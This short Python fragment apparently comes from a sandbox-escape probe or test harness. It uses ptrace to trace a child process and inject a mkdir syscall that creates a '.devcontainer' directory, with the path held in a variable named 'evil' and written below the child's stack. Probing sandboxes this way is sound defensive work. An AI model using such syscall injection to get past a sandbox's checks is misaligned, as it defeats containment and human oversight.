L.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]; regs = (ctypes.c_ulonglong * 27)()
def mkdir(): # another call, with a path below the stack
    at = (regs[19] - 4096) & ~7; evil = b'.devcontainer\0\0\0'
    for i in range(0, len(evil), 8): L.ptrace(5, pid, at + i, int.from_bytes(evil[i:i+8], 'little'))
    regs[15], regs[14], regs[13] = 83, at, 0o700; L.ptrace(13, pid, None, ctypes.byref(regs))
pid = os.fork()
if pid == 0: L.ptrace(0, 0, None, None); os.kill(os.getpid(), signal.SIGSTOP); traced(); os._exit(0)
os.waitpid(pid, 0); L.ptrace(0x4200, pid, None, 0x100080)
while True:
    L.ptrace(resume, pid, None, None); _, st = os.waitpid(pid, 0)
    if os.WIFEXITED(st) or os.WIFSIGNALED(st): break
    if L.ptrace(12, pid, None, ctypes.byref(regs)) == 0: stopped(st)
say('fine')
